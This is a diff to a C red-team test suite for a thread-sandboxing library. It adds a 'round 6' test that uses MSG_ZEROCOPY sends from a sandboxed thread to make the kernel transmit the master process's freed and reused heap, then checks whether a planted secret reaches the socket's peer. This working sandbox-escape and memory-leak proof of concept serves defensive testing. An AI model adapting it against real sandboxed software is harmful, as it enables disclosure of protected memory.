@@ -23,6 +23,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <netinet/in.h>
+#include <arpa/inet.h>
 #include <sys/eventfd.h>
 #include <sys/mman.h>
 #include <sys/resource.h>
@@ -2679,6 +2681,119 @@ static void procmem_lib(void)
 	printf("procmem-lib: %ld/%ld, read %.31s\n", r0, r, r == 1 ? q->out : "(ended)");
 }
 
+
+/* ---- red-team round 6 ---- */
+
+/* R6-1. MSG_ZEROCOPY through a granted TCP socket. The library copies the sthread's
+ * bytes into a bounce buffer on the master's heap and passes the sthread's flags on to
+ * send(). With SO_ZEROCOPY on the socket (a master that uses zero-copy sends itself),
+ * MSG_ZEROCOPY makes the kernel pin the bounce buffer's pages and send from them
+ * later: what the peer's closed window keeps queued is read from the master's heap
+ * when it goes out, after the buffer was freed and reused by the master. */
+struct r6_zc {
+	int fd;
+	long sent;
+	long err;
+};
+
+static void *r6_zc_send(void *arg)
+{
+	struct r6_zc *z = arg;
+	char buf[16384];
+	memset(buf, 'Z', sizeof buf);
+	long total = 0;
+	for (int i = 0; i < 3; i++) {
+		long r = syscall(SYS_sendto, z->fd, buf, sizeof buf, MSG_ZEROCOPY | MSG_DONTWAIT, NULL, 0);
+		if (r < 0) {
+			z->err = errno;
+			break;
+		}
+		total += r;
+	}
+	z->sent = total;
+	return (void *)1;
+}
+
+static void zerocopy_leak(void)
+{
+	int l = socket(AF_INET, SOCK_STREAM, 0);
+	CHECK(l >= 0, "socket");
+	int small = 2048;
+	setsockopt(l, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
+	struct sockaddr_in a;
+	memset(&a, 0, sizeof a);
+	a.sin_family = AF_INET;
+	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	socklen_t al = sizeof a;
+	CHECK(bind(l, (struct sockaddr *)&a, sizeof a) == 0 && listen(l, 1) == 0 && getsockname(l, (struct sockaddr *)&a, &al) == 0, "bind/listen: %s", strerror(errno));
+	int c = socket(AF_INET, SOCK_STREAM, 0);
+	CHECK(c >= 0, "socket");
+	int one = 1, big = 1 << 20;
+	if (setsockopt(c, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one) != 0) {
+		printf("zerocopy: SO_ZEROCOPY not available here (%s): nothing to try\n", strerror(errno));
+		return;
+	}
+	setsockopt(c, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
+	CHECK(connect(c, (struct sockaddr *)&a, sizeof a) == 0, "connect: %s", strerror(errno));
+	int s = accept(l, NULL, NULL);
+	CHECK(s >= 0, "accept");
+	tag_t t = tag_new();
+	struct r6_zc *z = smalloc(t, sizeof *z);
+	CHECK(z != NULL, "smalloc");
+	memset(z, 0, sizeof *z);
+	z->fd = c;
+	sc_t sc;
+	sc_init(&sc);
+	sc_mem_add(&sc, t, PROT_READ | PROT_WRITE);
+	sc_fd_add(&sc, c, PROT_WRITE);
+	CHECK(sc_sys_add(&sc, SYS_sendto) == 0, "grant sendto");
+	deadline(20);
+	long r = join(run(&sc, r6_zc_send, z));
+	printf("zerocopy: the sthread ended with %ld, sent %ld bytes (errno %ld)\n", r, z->sent, z->err);
+	/* The master goes on using its heap: secrets in freshly allocated buffers. */
+	static const char secret[] = "MASTER-HEAP-SECRET:";
+	char *bufs[96];
+	for (int i = 0; i < 96; i++) {
+		bufs[i] = malloc(16384 + 16 * (i % 4));
+		CHECK(bufs[i] != NULL, "malloc");
+		for (size_t k = 0; k + sizeof secret - 1 <= 16384; k += sizeof secret - 1)
+			memcpy(bufs[i] + k, secret, sizeof secret - 1);
+	}
+	/* The peer reads: the window opens and the queued data goes out now. */
+	CHECK(fcntl(s, F_SETFL, O_NONBLOCK) == 0, "nonblock");
+	static char got[1 << 18];
+	long n = 0;
+	for (;;) {
+		struct pollfd p = { s, POLLIN, 0 };
+		if (poll(&p, 1, 300) <= 0)
+			break;
+		long k = read(s, got + n, sizeof got - (size_t)n);
+		if (k <= 0)
+			break;
+		n += k;
+		if (n == (long)sizeof got)
+			break;
+	}
+	alarm(0);
+	long zs = 0, other = 0;
+	for (long i = 0; i < n; i++) {
+		if (got[i] == 'Z')
+			zs++;
+		else
+			other++;
+	}
+	printf("zerocopy: the peer read %ld bytes: %ld 'Z', %ld other\n", n, zs, other);
+	if (n > 0 && memmem(got, (size_t)n, "MASTER-HEAP", 11))
+		ESCAPED("zerocopy: the sthread's MSG_ZEROCOPY send delivered the master's heap (MASTER-HEAP-SECRET) to its socket's peer");
+	else if (other)
+		ESCAPED("zerocopy: the peer received %ld bytes the sthread never wrote (the master's reused heap)", other);
+	for (int i = 0; i < 96; i++)
+		free(bufs[i]);
+	close(s);
+	close(c);
+	close(l);
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IONBF, 0);
@@ -2809,6 +2924,8 @@ int main(int argc, char **argv)
 		tty_race();
 	else if (!strcmp(s, "pipe-write-race"))
 		pipe_write_race();
+	else if (!strcmp(s, "zerocopy"))
+		zerocopy_leak();
 	else if (!strcmp(s, "race-waitall"))
 		race_waitall(argc > 2 ? atoi(argv[2]) : 2);
 	else {
